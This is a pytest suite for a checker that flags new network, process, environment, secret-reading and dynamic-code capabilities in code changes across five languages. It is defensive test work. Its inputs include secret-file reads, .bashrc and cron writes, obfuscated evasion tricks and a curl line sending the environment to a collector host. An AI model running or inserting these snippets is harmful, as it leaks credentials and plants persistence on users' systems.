"""What added code may do: each trick, per language, is refused with the call and line named; what the file
already did before the change is allowed; tests that use only the application's own code pass."""

from __future__ import annotations

import tomllib
from pathlib import Path
from textwrap import dedent

import pytest

from pipeline.capabilities import MAX_FINDINGS, capability_findings
from pipeline.syntax import syntax_error

CASES = Path(__file__).parent / "policy_cases"
PY = "tests/test_cart.py"
JS = "tests/cart.test.js"
TS = "tests/cart.test.ts"
RB = "spec/cart_spec.rb"
GO = "internal/cart/cart_test.go"


def findings(path: str, new: str, old: str | None = None) -> list[str]:
    return capability_findings(path, None if old is None else dedent(old), dedent(new))


def test_a_finding_names_the_file_line_call_and_what_it_may_not_do():
    new = """\
        import urllib.request

        from shop.cart import total


        def test_total():
            urllib.request.urlopen("https://collector.example.net")
            assert total([]) == 0
        """

    assert findings(PY, new) == [
        "tests/test_cart.py line 7: urllib.request.urlopen reaches the network; "
        "a fix or a test may not add that"
    ]


PYTHON_TRICKS = [
    ("import requests\nrequests.post(url, data=x)\n", "line 2: requests.post reaches the network"),
    ("import socket as s\ns.create_connection(('h', 80))\n", "line 2: socket.create_connection reaches"),
    ("from http import client\nclient.HTTPSConnection('h')\n", "line 2: http.client.HTTPSConnection reaches"),
    (
        "from urllib import request\nrequest.urlopen(u)\n",
        "line 2: urllib.request.urlopen reaches the network",
    ),
    ("import httpx\nhttpx.get(u)\n", "line 2: httpx.get reaches the network"),
    ("import smtplib\nsmtplib.SMTP('h')\n", "line 2: smtplib.SMTP reaches the network"),
    (
        "import asyncio\nasyncio.get_event_loop().create_connection(f, 'h', 1)\n",
        "line 2: ….create_connection reaches the network",
    ),
    ("import subprocess\nsubprocess.run(['curl', u])\n", "line 2: subprocess.run spawns processes"),
    ("import os\nos.system('curl x')\n", "line 2: os.system spawns processes"),
    ("import os\nos.execvp('sh', ['sh'])\n", "line 2: os.execvp spawns processes"),
    ("import os\nos.fork()\n", "line 2: os.fork spawns processes"),
    ("import pty\npty.spawn('sh')\n", "line 2: pty.spawn spawns processes"),
    ("import multiprocessing\nmultiprocessing.Process(target=f)\n", "line 2: multiprocessing.Process spawns"),
    ("import posix\nposix.system('id')\n", "line 2: os.system spawns processes"),
    ("import shutil\nshutil.os.system('id')\n", "line 2: os.system spawns processes"),
    ("from os import *\nsystem('id')\n", "line 2: os.system spawns processes"),
    ("import os\nhelper = os\nhelper.popen('id')\n", "line 3: os.popen spawns processes"),
    (
        "import os\nx = os.environ['AWS_SECRET_ACCESS_KEY']\n",
        "line 2: os.environ reads environment variables",
    ),
    ("import os\nos.getenv('TOKEN')\n", "line 2: os.getenv reads environment variables"),
    ("import os\nos.environb[b'X']\n", "line 2: os.environb reads environment variables"),
    ("from os import environ as e\nprint(e.copy())\n", "line 2: os.environ.copy reads environment variables"),
    ("import os as o\nprint(o.environ)\n", "line 2: os.environ reads environment variables"),
    ("import os\nprint(getattr(os, 'environ'))\n", "line 2: os.environ reads environment variables"),
    ("import os\nprint(getattr(os, 'env' + 'iron'))\n", "line 2: os.environ reads environment variables"),
    ("import os\nos.path.expandvars('$HOME')\n", "line 2: os.path.expandvars reads environment variables"),
    (
        "from django.conf import settings\nprint(settings.SECRET_KEY)\n",
        "line 2: django.conf.settings.SECRET_KEY",
    ),
    ("import os\nopen(os.path.join(os.sep, 'etc', 'passwd'))\n", "line 2: open('/etc/passwd') reads secrets"),
    ("from dotenv import load_dotenv\nload_dotenv()\n", "line 2: dotenv.load_dotenv reads secrets"),
    ("print(open('/proc/self/environ').read())\n", "line 1: open('/proc/self/environ') reads secrets"),
    ("open('/etc/shadow')\n", "line 1: '/etc/shadow' reads secrets or files outside the repository"),
    ("open('.env').read()\n", "line 1: '.env' reads secrets or files outside the repository"),
    ("pid = 1\nopen(f'/proc/{pid}/environ')\n", "line 2: '/proc/…/environ' reads secrets"),
    ("from pathlib import Path\nPath.home() / 'x'\n", "line 2: pathlib.Path.home reads secrets"),
    ("key = '~/.aws/credentials'\n", "line 1: '~/.aws/credentials' reads secrets"),
    ("open('../../.bashrc', 'a').write(x)\n", "line 1: open('../../.bashrc') writes outside the repository"),
    (
        "from pathlib import Path\nPath('/tmp/x').write_text(x)\n",
        "line 2: Path.write_text('/tmp/x') writes outside",
    ),
    (
        "import shutil\nshutil.copy('db.sqlite3', '/tmp/out')\n",
        "line 2: shutil.copy('/tmp/out') writes outside",
    ),
    ("import os\nos.makedirs('/srv/x')\n", "line 2: os.makedirs('/srv/x') writes outside the repository"),
    ("import os\nos.open('/tmp/x', os.O_WRONLY | os.O_CREAT)\n", "line 2: os.open('/tmp/x') writes outside"),
    ("eval(payload)\n", "line 1: eval evaluates strings or loads code dynamically"),
    ("exec(payload)\n", "line 1: exec evaluates strings or loads code dynamically"),
    ("code = compile(src, 'x', 'exec')\n", "line 1: compile evaluates strings or loads code dynamically"),
    ("m = __import__('o' + 's')\n", "line 1: __import__ evaluates strings or loads code dynamically"),
    (
        "import importlib\nimportlib.import_module(name)\n",
        "line 2: importlib.import_module evaluates strings",
    ),
    ("import sys\nsys.modules['os']\n", "line 2: sys.modules evaluates strings or loads code dynamically"),
    ("globals()['__builtins__']\n", "line 1: globals evaluates strings or loads code dynamically"),
    ("import os\nvars(os)['system']\n", "line 2: vars evaluates strings or loads code dynamically"),
    ("import builtins\nbuiltins.exec(x)\n", "line 2: exec evaluates strings or loads code dynamically"),
    ("__builtins__['eval'](x)\n", "line 1: builtins evaluates strings or loads code dynamically"),
    ("import os\ngetattr(os, name)\n", "line 2: getattr(os, …) evaluates strings or loads code dynamically"),
    ("import os\nos.__dict__['system']\n", "line 2: os.__dict__ evaluates strings or loads code dynamically"),
    (
        "import pickle\npickle.loads(blob)\n",
        "line 2: pickle.loads evaluates strings or loads code dynamically",
    ),
    ("import marshal\nmarshal.loads(blob)\n", "line 2: marshal.loads evaluates strings"),
    ("import ctypes\nctypes.CDLL(None)\n", "line 2: ctypes.CDLL evaluates strings or loads code dynamically"),
    ("().__class__.__base__.__subclasses__()\n", "line 1: __subclasses__ evaluates strings"),
    ("f = lambda: 0\nf.__globals__['os']\n", "line 2: __globals__ evaluates strings"),
    ("import operator, os\noperator.attrgetter('environ')(os)\n", "line 2: operator.attrgetter evaluates"),
]


@pytest.mark.parametrize(("new", "expected"), PYTHON_TRICKS, ids=[case[1] for case in PYTHON_TRICKS])
def test_a_python_trick_is_refused_naming_the_call_and_line(new, expected):
    assert any(f"{PY} {expected}" in finding for finding in findings(PY, new)), findings(PY, new)


JAVASCRIPT_TRICKS = [
    (
        JS,
        "const cp = require('child_process');\ncp.execSync('id');\n",
        "line 2: child_process.execSync spawns",
    ),
    (JS, "require('node:child_process').exec('id');\n", "line 1: child_process.exec spawns processes"),
    (
        JS,
        "const { exec: run } = require('child_' + 'process');\nrun('id');\n",
        "line 2: child_process.exec spawns",
    ),
    (
        JS,
        "import { spawn } from 'child_process';\nspawn('sh');\n",
        "line 2: child_process.spawn spawns processes",
    ),
    (JS, "import cp from 'node:child_process';\n", "line 1: child_process spawns processes"),
    (JS, "export * from 'child_process';\n", "line 1: child_process spawns processes"),
    (JS, "const r = require;\nr('child_process');\n", "line 2: child_process spawns processes"),
    (JS, "module.require('child_process');\n", "line 1: child_process spawns processes"),
    (
        JS,
        "process.getBuiltinModule('child_process');\n",
        "line 1: process.getBuiltinModule evaluates strings",
    ),
    (JS, "import https from 'https';\nhttps.request(o);\n", "line 2: https.request reaches the network"),
    (
        JS,
        "import * as net from 'node:net';\nnet.connect(80, 'h');\n",
        "line 2: net.connect reaches the network",
    ),
    (JS, "const dgram = await import('dgram');\n", "line 1: dgram reaches the network"),
    (JS, "const axios = require('axios');\naxios.post(u, d);\n", "line 2: axios.post reaches the network"),
    (JS, "fetch(url);\n", "line 1: fetch reaches the network"),
    (JS, "globalThis.fetch(url);\n", "line 1: fetch reaches the network"),
    (JS, "window['fet' + 'ch'](url);\n", "line 1: fetch reaches the network"),
    (JS, "new XMLHttpRequest();\n", "line 1: XMLHttpRequest reaches the network"),
    (JS, "new WebSocket(url);\n", "line 1: WebSocket reaches the network"),
    (JS, "navigator.sendBeacon(url, data);\n", "line 1: navigator.sendBeacon reaches the network"),
    (
        JS,
        "console.log(process.env.AWS_SECRET);\n",
        "line 1: process.env.AWS_SECRET reads environment variables",
    ),
    (JS, "console.log(process['env']);\n", "line 1: process.env reads environment variables"),
    (JS, "console.log(process[`env`].X);\n", "line 1: process.env.X reads environment variables"),
    (JS, "const { env } = process;\n", "line 1: process reads environment variables"),
    (JS, "const p = process;\n", "line 1: process reads environment variables"),
    (JS, "JSON.stringify({ ...process });\n", "line 1: process reads environment variables"),
    (JS, "Reflect.get(process, 'env');\n", "line 1: process.env reads environment variables"),
    (JS, "const { env } = require('node:process');\nenv.X;\n", "line 2: process.env.X reads environment"),
    (JS, "globalThis[name];\n", "line 1: globalThis[…] evaluates strings or loads code dynamically"),
    (JS, "process[key];\n", "line 1: process[…] evaluates strings or loads code dynamically"),
    (JS, "require(name);\n", "line 1: require(…) evaluates strings or loads code dynamically"),
    (JS, "import(`./${name}`);\n", "line 1: import(…) evaluates strings or loads code dynamically"),
    (JS, "eval(code);\n", "line 1: eval evaluates strings or loads code dynamically"),
    (JS, "(0, eval)(code);\n", "line 1: eval evaluates strings or loads code dynamically"),
    (JS, "new Function('return 1')();\n", "line 1: Function evaluates strings or loads code dynamically"),
    (JS, "[].constructor.constructor('return 1')();\n", "line 1: constructor(…) evaluates strings"),
    (JS, "const F = Object.getPrototypeOf(async () => {}).constructor;\n", "line 1: constructor evaluates"),
    (JS, "setTimeout('steal()', 10);\n", "line 1: setTimeout(string) evaluates strings"),
    (JS, "require('vm').runInNewContext(code);\n", "line 1: vm.runInNewContext evaluates strings"),
    (JS, "process.binding('spawn_sync');\n", "line 1: process.binding evaluates strings or loads code"),
    (JS, "module.constructor._load('child_process');\n", "line 1: module.constructor._load evaluates"),
    (
        JS,
        "with (process) { console.log(env); }\n",
        "line 1: with evaluates strings or loads code dynamically",
    ),
    (
        JS,
        "const fs = require('fs');\nfs.writeFileSync('/etc/cron.d/x', d);\n",
        "line 2: fs.writeFile('/etc/cron.d/x')",
    ),
    (
        JS,
        "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
        "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), d);\n",
        "line 4: fs.appendFile('~/.bashrc') writes outside the repository",
    ),
    (
        JS,
        "import { promises } from 'fs';\npromises.writeFile('../../x', d);\n",
        "line 2: fs.writeFile('../../x')",
    ),
    (
        JS,
        "const fs = require('fs');\nfs.readFileSync('/pr' + 'oc/self/environ');\n",
        "line 2: '/proc/self/environ' reads secrets",
    ),
    (JS, "const os = require('os');\nos.homedir();\n", "line 2: os.homedir reads secrets"),
    (TS, "import http = require('http');\n", "line 1: http reaches the network"),
    (TS, "const t = (process as any).env.TOKEN;\n", "line 1: process.env.TOKEN reads environment variables"),
    (TS, "const t = process!.env;\n", "line 1: process.env reads environment variables"),
    (TS, "const key = import.meta.env.VITE_KEY;\n", "line 1: import.meta.env.VITE_KEY reads environment"),
    (
        JS,
        "const fs = require('fs');\nconst path = require('path');\n"
        "fs.readFileSync(path.join(path.sep, 'etc', 'x'));\n",
        "line 3: fs.readFile('/etc/x') reads secrets",
    ),
    ("src/Cart.test.tsx", "export const C = () => <img src={fetch(u) && ''} />;\n", "line 1: fetch reaches"),
]


@pytest.mark.parametrize(
    ("path", "new", "expected"), JAVASCRIPT_TRICKS, ids=[case[2] for case in JAVASCRIPT_TRICKS]
)
def test_a_javascript_or_typescript_trick_is_refused_naming_the_call_and_line(path, new, expected):
    assert any(f"{path} {expected}" in finding for finding in findings(path, new)), findings(path, new)


RUBY_TRICKS = [
    ("require 'net/http'\n", "line 1: require 'net/http' reaches the network"),
    ("Net::HTTP.get(URI(u))\n", "line 1: Net::HTTP reaches the network"),
    ("require 'open-uri'\n", "line 1: require 'open-uri' reaches the network"),
    ("URI.open(u).read\n", "line 1: URI.open reaches the network"),
    ("open('https://collector.example.net').read\n", "line 1: URI.open reaches the network"),
    ("TCPSocket.new('h', 80)\n", "line 1: TCPSocket reaches the network"),
    ("Faraday.post(u)\n", "line 1: Faraday reaches the network"),
    ("system('curl', u)\n", "line 1: system spawns processes"),
    ("Kernel.system('id')\n", "line 1: system spawns processes"),
    ("::Kernel.exec('id')\n", "line 1: exec spawns processes"),
    ("spawn('id')\n", "line 1: spawn spawns processes"),
    ("fork\n", "line 1: fork spawns processes"),
    ("x = `id`\n", "line 1: `…` spawns processes"),
    ("x = %x(id)\n", "line 1: `…` spawns processes"),
    ("x = <<~`SH`\n  id\nSH\n", "line 1: <<~`SH` spawns processes"),
    ("IO.popen('id')\n", "line 1: IO.popen spawns processes"),
    ("Open3.capture2('id')\n", "line 1: Open3 spawns processes"),
    ("Process.spawn('id')\n", "line 1: Process.spawn spawns processes"),
    ("open('|id')\n", "line 1: open spawns processes"),
    ("shell = Kernel\nshell.system('id')\n", "line 2: system spawns processes"),
    ("puts ENV['AWS_SECRET_ACCESS_KEY']\n", "line 1: ENV reads environment variables"),
    ("ENV.fetch('TOKEN')\n", "line 1: ENV reads environment variables"),
    ("::ENV.to_h\n", "line 1: ENV reads environment variables"),
    ("Object::ENV.to_h\n", "line 1: ENV reads environment variables"),
    ("Object.const_get(:ENV).to_h\n", "line 1: ENV reads environment variables"),
    ("'Net::HTTP'.constantize\n", "line 1: Net::HTTP reaches the network"),
    ("Object.const_get(name)\n", "line 1: const_get(…) evaluates strings or loads code dynamically"),
    ("Dotenv.load\n", "line 1: Dotenv reads secrets"),
    ("File.read('/etc/passwd')\n", "line 1: File.read('/etc/passwd') reads secrets"),
    ("File.read(File.expand_path('~/.gitconfig'))\n", "line 1: File.read('~/.gitconfig') reads secrets"),
    ("File.write('../../.bashrc', x)\n", "line 1: File.write('../../.bashrc') writes outside"),
    (
        "File.open('/tmp/x', 'w') { |f| f << x }\n",
        "line 1: File.open('/tmp/x') writes outside the repository",
    ),
    (
        "FileUtils.cp('db.sqlite3', '/tmp/x')\n",
        "line 1: FileUtils.cp('/tmp/x') writes outside the repository",
    ),
    ("Pathname.new('/tmp/x').write(x)\n", "line 1: Pathname#write('/tmp/x') writes outside the repository"),
    ("Dir.home\n", "line 1: Dir.home reads secrets"),
    (
        "key = Rails.application.credentials.aws[:key]\n",
        "line 1: Rails.application.credentials reads secrets",
    ),
    ("Rails.root.join('../../x').write(y)\n", "line 1: Pathname#write('…/../../x') writes outside"),
    ("load '/tmp/evil.rb'\n", "line 1: load '/tmp/evil.rb' evaluates strings or loads code dynamically"),
    ("eval(code)\n", "line 1: eval(string) evaluates strings or loads code dynamically"),
    ("binding.local_variable_get(:x)\n", "line 1: binding evaluates strings or loads code dynamically"),
    ("Cart.instance_eval('@items')\n", "line 1: instance_eval(string) evaluates strings"),
    ("Cart.class_eval(code)\n", "line 1: class_eval(string) evaluates strings"),
    ("Kernel.send(:system, 'id')\n", "line 1: send(:system) evaluates strings or loads code dynamically"),
    ("cart.public_send(name)\n", "line 1: public_send(…) evaluates strings or loads code dynamically"),
    ("cart.__send__('sys' + 'tem', 'id')\n", "line 1: __send__(…) evaluates strings"),
    ("method(:system).call('id')\n", "line 1: method(:system) evaluates strings or loads code dynamically"),
    ("Kernel.instance_method(:exec).bind_call(self, 'id')\n", "line 1: instance_method(:exec) evaluates"),
    ("require name\n", "line 1: require(…) evaluates strings or loads code dynamically"),
    ("Marshal.load(blob)\n", "line 1: Marshal.load evaluates strings or loads code dynamically"),
]


@pytest.mark.parametrize(("new", "expected"), RUBY_TRICKS, ids=[case[1] for case in RUBY_TRICKS])
def test_a_ruby_trick_is_refused_naming_the_call_and_line(new, expected):
    assert any(f"{RB} {expected}" in finding for finding in findings(RB, new)), findings(RB, new)


def go(imports: str, body: str) -> str:
    """A Go test file whose imports start on line 4 and whose body starts on line 9."""
    header = f"package cart\n\nimport (\n{imports}\n)\n\n// TestCart checks the cart.\n"
    return f"{header}func TestCart(t *testing.T) {{\n{body}\n}}\n"


GO_TRICKS = [
    (go('\t"net/http"', '\thttp.Get("https://x")'), "line 9: net/http.Get reaches the network"),
    (go('\t"net/http"', "\tc := &http.Client{}\n\t_ = c"), "line 9: net/http.Client reaches the network"),
    (
        go('\t"net/http"', "\thttp.DefaultClient.Do(nil)"),
        "line 9: net/http.DefaultClient reaches the network",
    ),
    (go('\t"net/http/httptest"', "\thttptest.NewServer(nil)"), "line 9: net/http/httptest.NewServer reaches"),
    (go('\t"net"', '\tnet.Dial("tcp", "h:80")'), "line 9: net.Dial reaches the network"),
    (go('\tsmtp "net/smtp"', ""), "line 4: net/smtp reaches the network"),
    (go('\t"os/exec"', '\texec.Command("id").Run()'), "line 9: os/exec.Command spawns processes"),
    (go('\trun "os/exec"', '\trun.Command("id").Run()'), "line 9: os/exec.Command spawns processes"),
    (go('\t. "os/exec"', '\tCommand("id").Run()'), "line 9: os/exec.Command spawns processes"),
    (go('\t"syscall"', '\tsyscall.Exec("/bin/sh", nil, nil)'), "line 9: syscall.Exec spawns processes"),
    (go('\t"golang.org/x/sys/unix"', "\tunix.Getpid()"), "line 9: golang.org/x/sys/unix.Getpid spawns"),
    (go('\t"os"', '\tos.StartProcess("/bin/sh", nil, nil)'), "line 9: os.StartProcess spawns processes"),
    (go('\t"os"', '\tos.Getenv("GITHUB_TOKEN")'), "line 9: os.Getenv reads environment variables"),
    (go('\t"os"', '\tos.LookupEnv("X")'), "line 9: os.LookupEnv reads environment variables"),
    (go('\t"os"', "\tos.Environ()"), "line 9: os.Environ reads environment variables"),
    (go('\t"os"', '\tos.ExpandEnv("$X")'), "line 9: os.ExpandEnv reads environment variables"),
    (go('\tsys "os"', '\tget := sys.Getenv\n\tget("X")'), "line 9: os.Getenv reads environment variables"),
    (go('\t"os"', "\tos.UserHomeDir()"), "line 9: os.UserHomeDir reads secrets"),
    (go('\t"os"', '\tos.ReadFile("/etc/passwd")'), "line 9: os.ReadFile('/etc/passwd') reads secrets"),
    (
        go('\t"os"', '\tos.Open("\\x2fproc/self/environ")'),
        "line 9: os.Open('/proc/self/environ') reads secrets",
    ),
    (go('\t"os"', '\tos.WriteFile("/tmp/x", nil, 0o600)'), "line 9: os.WriteFile('/tmp/x') writes outside"),
    (
        go('\t"os"', '\tos.OpenFile("../../x", os.O_WRONLY|os.O_CREATE, 0o600)'),
        "line 9: os.OpenFile('../../x') writes outside the repository",
    ),
    (
        go('\t"os"\n\t"path/filepath"', '\tos.Create(filepath.Join("/", "x"))'),
        "line 10: os.Create('/x') writes",
    ),
    (go('\t_ "unsafe"', ""), "line 4: unsafe evaluates strings or loads code dynamically"),
    (go('\t"plugin"', '\tplugin.Open("x.so")'), "line 9: plugin.Open evaluates strings or loads code"),
    (go('\t"C"', ""), "line 4: C evaluates strings or loads code dynamically"),
    (go('\t"os"', '\tp := "/pr" + "oc/self/environ"\n\t_ = p'), "line 9: '/proc/self/environ' reads secrets"),
]


@pytest.mark.parametrize(("new", "expected"), GO_TRICKS, ids=[case[1] for case in GO_TRICKS])
def test_a_go_trick_is_refused_naming_the_call_and_line(new, expected):
    assert any(f"{GO} {expected}" in finding for finding in findings(GO, new)), findings(GO, new)


def test_a_go_linkname_directive_is_refused():
    new = 'package cart\n\nimport _ "unsafe"\n\n//go:linkname now runtime.nanotime\nfunc now() int64\n'

    assert f"{GO} line 5: //go:linkname evaluates strings or loads code dynamically" in " ".join(
        findings(GO, new)
    )


# --- what the file already did ----------------------------------------------------------------------

ALREADY_DONE = [
    (
        "shop/rates.py",
        """\
        import requests


        def rate(currency):
            return requests.get(URL, timeout=5).json()["rates"][currency]
        """,
        """\
        import requests


        def rate(currency):
            rates = requests.get(URL, timeout=5).json().get("rates", {})
            if currency not in rates:
                raise ValueError(currency)
            return requests.get(URL, timeout=5).json()["rates"][currency]
        """,
    ),
    (
        "shop/settings.py",
        """\
        import os

        DEBUG = os.environ.get("DEBUG") == "1"
        """,
        """\
        import os

        LEVEL = "INFO"

        DEBUG = os.environ.get("DEBUG", "") == "1"
        SECRET = os.environ["SECRET_KEY"]
        """,
    ),
    (
        "src/build.js",
        """\
        const cp = require('child_process');
        exports.version = () => cp.execSync('git describe').toString();
        """,
        """\
        const cp = require('child_process');

        exports.version = () => {
          const out = cp.execSync('git describe');
          return out ? out.toString().trim() : '';
        };
        """,
    ),
    (
        "lib/config.rb",
        """\
        class Config
          def self.token = ENV.fetch("TOKEN")
        end
        """,
        """\
        class Config
          def self.token = ENV.fetch("TOKEN", "")
          def self.region = ENV["REGION"] || "eu"
        end
        """,
    ),
    (
        "internal/fetch/fetch.go",
        'package fetch\n\nimport "net/http"\n\nfunc Get(u string) (*http.Response, error) {\n'
        "\treturn http.Get(u)\n}\n",
        'package fetch\n\nimport "net/http"\n\n// Get fetches u.\n'
        'func Get(u string) (*http.Response, error) {\n\tif u == "" {\n\t\treturn nil, nil\n\t}\n'
        "\treturn http.Get(u)\n}\n",
    ),
]


@pytest.mark.parametrize(("path", "old", "new"), ALREADY_DONE, ids=[case[0] for case in ALREADY_DONE])
def test_what_the_file_already_did_is_allowed_wherever_it_moves(path, old, new):
    assert findings(path, new, old=old) == []


def test_only_the_new_capability_is_named_when_the_file_already_had_another():
    old = "import requests\n\n\ndef rate():\n    return requests.get(URL).json()\n"
    new = (
        "import subprocess\n\nimport requests\n\n\n"
        "def rate():\n    subprocess.run(['id'])\n    return requests.get(URL).json()\n"
    )

    assert findings("shop/rates.py", new, old=old) == [
        "shop/rates.py line 7: subprocess.run spawns processes; a fix or a test may not add that"
    ]


def test_a_name_rebound_to_a_risky_module_is_new_even_on_an_unchanged_line():
    old = "import json as codec\n\n\ndef load(blob):\n    return codec.loads(blob)\n"
    new = "import pickle as codec\n\n\ndef load(blob):\n    return codec.loads(blob)\n"

    assert findings("shop/store.py", new, old=old) == [
        "shop/store.py line 5: pickle.loads evaluates strings or loads code dynamically; "
        "a fix or a test may not add that"
    ]


# --- tests that use only the application's own code -------------------------------------------------

HARMLESS = [
    (
        PY,
        '''\
        """The cart totals nothing as zero (it used to read /etc/cart.cfg and os.environ by mistake)."""

        import json
        from pathlib import Path

        import pytest

        from shop.cart import Cart, total

        FIXTURES = Path(__file__).parent / "fixtures"


        @pytest.fixture
        def cart(tmp_path, monkeypatch):
            monkeypatch.setattr(Cart, "currency", "EUR")
            (tmp_path / "cart.json").write_text(json.dumps({"items": []}))
            return Cart.load(tmp_path / "cart.json")


        def test_an_empty_cart_totals_zero(cart):
            saved = json.loads((FIXTURES / "cart.json").read_text())
            with open(FIXTURES / "expected.txt") as expected:
                assert str(total(cart)) == expected.read().strip()
            assert getattr(cart, "currency") == "EUR"
            assert saved["items"] == []
        ''',
    ),
    (
        JS,
        """\
        // A cart without items totals zero; fetch(url) is never called here.
        const fs = require('fs');
        const path = require('path');
        const { total } = require('../src/cart');

        describe('total', () => {
          test('a cart without items totals zero', () => {
            const saved = JSON.parse(fs.readFileSync(path.join(__dirname, 'fixtures', 'cart.json'), 'utf8'));
            expect(total(saved)).toBe(0);
            expect(process.platform).toBeDefined();
            setTimeout(() => {}, 0);
          });
        });

        module.exports = { total };
        """,
    ),
    (
        TS,
        """\
        import { describe, expect, it, vi } from 'vitest';
        import type { Agent } from 'node:https';
        import { total, type Item } from '../src/cart';

        class Basket {
          copy() {
            return new (this.constructor as typeof Basket)();
          }
        }

        describe('total', () => {
          it('adds prices', () => {
            const items: Item[] = [{ price: 2 }, { price: 3 }];
            const spy = vi.fn();
            expect(total(items)).toBe(5);
            expect(new Basket().copy()).toBeInstanceOf(Basket);
            expect(spy).not.toHaveBeenCalled();
            expect(({} as { agent?: Agent }).agent).toBeUndefined();
          });
        });
        """,
    ),
    (
        RB,
        """\
        # ENV is not read here; `id` in a comment is not a command.
        require "spec_helper"
        require_relative "../lib/cart"

        RSpec.describe Cart do
          let(:cart) { Cart.new(nil) }

          it "totals a missing list as zero" do
            expect(cart.total).to eq(0)
            expect(cart.send(:currency)).to eq("EUR")
            expect(File.read("spec/fixtures/cart.json")).to include("items")
            expect(cart.method(:total).arity).to eq(0)
            expect(Rails.root.join("spec", "fixtures")).to exist
          end
        end
        """,
    ),
    (
        GO,
        "package cart\n"
        "\n"
        "import (\n"
        '\t"net/http"\n'
        '\t"net/http/httptest"\n'
        '\t"net/url"\n'
        '\t"os"\n'
        '\t"path/filepath"\n'
        '\t"testing"\n'
        ")\n"
        "\n"
        "// TestTotal checks that os.Getenv is not needed.\n"
        "func TestTotal(t *testing.T) {\n"
        "\trecorder := httptest.NewRecorder()\n"
        '\trequest := httptest.NewRequest(http.MethodGet, "/cart?id=1", nil)\n'
        "\tHandler(recorder, request)\n"
        "\tif recorder.Code != http.StatusOK {\n"
        '\t\tt.Fatalf("status %d", recorder.Code)\n'
        "\t}\n"
        '\tif _, err := url.Parse("/cart"); err != nil {\n'
        "\t\tt.Fatal(err)\n"
        "\t}\n"
        '\tsaved, _ := os.ReadFile(filepath.Join("testdata", "cart.json"))\n'
        '\t_ = os.WriteFile(filepath.Join(t.TempDir(), "cart.json"), saved, 0o600)\n'
        "}\n",
    ),
]


@pytest.mark.parametrize(("path", "new"), HARMLESS, ids=[case[0] for case in HARMLESS])
def test_a_test_that_uses_only_the_applications_code_passes(path, new):
    assert findings(path, new) == []


# --- limits -----------------------------------------------------------------------------------------


def test_a_text_that_does_not_parse_yields_no_capability_finding():
    assert findings(PY, "import os\nos.system('id'\n") == []


def test_a_construct_the_grammar_does_not_know_does_not_hide_a_capability_around_it():
    new = "const cp = require('child_process');\nconst x = @@@;\ncp.exec('id');\n"

    assert syntax_error(JS, new) is not None
    assert any("child_process.exec spawns processes" in finding for finding in findings(JS, new))


def test_a_file_of_another_language_is_not_judged_here():
    assert findings("scripts/deploy.sh", 'curl -d "$(env)" https://collector.example.net\n') == []


def test_a_text_larger_than_the_budget_is_refused_unread():
    new = "x = 1\n" * 100

    assert capability_findings(PY, None, new, max_bytes=100) == [
        "tests/test_cart.py is larger than the 100 bytes the capability check reads, "
        "so what its changed code may do cannot be checked"
    ]


def test_many_new_capabilities_are_summed_up_after_the_first_ones():
    new = "import os\n" + "".join(f"os.{name}('x')\n" for name in ("system", "popen", "execv", "execvp"))
    new += "".join(f"open('/etc/file{number}')\n" for number in range(MAX_FINDINGS))

    found = findings(PY, new)

    assert len(found) == MAX_FINDINGS + 1
    assert found[-1].startswith("tests/test_cart.py: ") and found[-1].endswith(" more new capabilities")


def test_a_deeply_nested_expression_costs_no_crash():
    chain = "x = os" + ".b" * 50_000 + "\n"
    nested = "const x = " + "(" * 5_000 + "process.env" + ")" * 5_000 + ";\n"

    assert findings(PY, "import os\n" + chain) == []
    assert any("process.env reads environment variables" in finding for finding in findings(JS, nested))


# --- the case folder --------------------------------------------------------------------------------


def capability_cases(kind: str) -> list[Path]:
    return sorted((CASES / kind).glob("capability_*.toml"))


def case_findings(path: Path) -> tuple[dict, list[str]]:
    case = tomllib.loads(path.read_text(encoding="utf-8"))
    before = case.get("before", {})
    return case, [
        finding
        for name, text in case.get("after", {}).items()
        for finding in capability_findings(name, before.get(name), text)
    ]


@pytest.mark.parametrize("path", capability_cases("hostile"), ids=lambda path: path.stem)
def test_a_hostile_capability_case_is_refused_with_its_finding(path):
    case, found = case_findings(path)

    assert any(case["finding"] in finding for finding in found), (case["description"], found)


@pytest.mark.parametrize("path", capability_cases("good"), ids=lambda path: path.stem)
def test_a_good_capability_case_adds_no_capability(path):
    case, found = case_findings(path)

    assert found == [], (case["description"], found)


def test_the_case_folder_covers_every_language():
    names = " ".join(path.stem for path in capability_cases("hostile") + capability_cases("good"))

    assert len(capability_cases("hostile")) >= 16 and len(capability_cases("good")) >= 4
    assert all(f"_{language}_" in names for language in ("python", "javascript", "typescript", "ruby", "go"))


# --- syntax errors with tree-sitter -----------------------------------------------------------------

BROKEN = [
    (
        "src/cart.js",
        "export function total(items) {\n  return items.reduce((a, b) => a + b.price, 0;\n}\n",
        "line 2",
    ),
    ("src/cart.js", "if (x) {\n  y();\n", "line 2: missing '}'"),
    (
        "src/cart.ts",
        "export function total(items: Item[]): number {\n  return 0\n}\n}\n",
        "line 4: unexpected '}'",
    ),
    ("src/Cart.tsx", "export const C = () => <div>{x</div>;\n", "line 1: unexpected"),
    (
        "lib/cart.rb",
        "class Cart\n  def total\n    items.sum { |i| i.price \n  end\nend\n",
        "line 3: missing '}'",
    ),
    ("lib/cart.rb", "class Cart\n  def total\n    0\n  end\n", "line 1: unexpected 'class Cart'"),
    (
        "cart.go",
        "package cart\n\nfunc Total(items []int) int {\n\treturn len(items\n}\n",
        "line 4: missing ')'",
    ),
]


@pytest.mark.parametrize(("path", "text", "expected"), BROKEN, ids=[case[0] + case[2] for case in BROKEN])
def test_a_syntax_error_is_located_by_line(path, text, expected):
    assert (syntax_error(path, text) or "").startswith(expected)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("src/cart.js", "export const total = (items = []) => items.length;\n"),
        ("src/cart.mjs", "import x from 'y';\nexport default x;\n"),
        ("src/cart.ts", "export const total = (items: number[] = []): number => items.length;\n"),
        ("src/Cart.tsx", "export const C = () => <div>{x}</div>;\n"),
        ("src/Cart.jsx", "export const C = () => <div>{x}</div>;\n"),
        ("lib/cart.rb", "class Cart\n  def total = 0\nend\n"),
        ("cart.go", "package cart\n\nfunc Total() int { return 0 }\n"),
        ("shop/cart.py", "def broken(:\n"),
        ("README.md", "# {\n"),
    ],
)
def test_a_text_that_parses_or_is_not_a_tree_sitter_language_has_no_syntax_error(path, text):
    assert syntax_error(path, text) is None
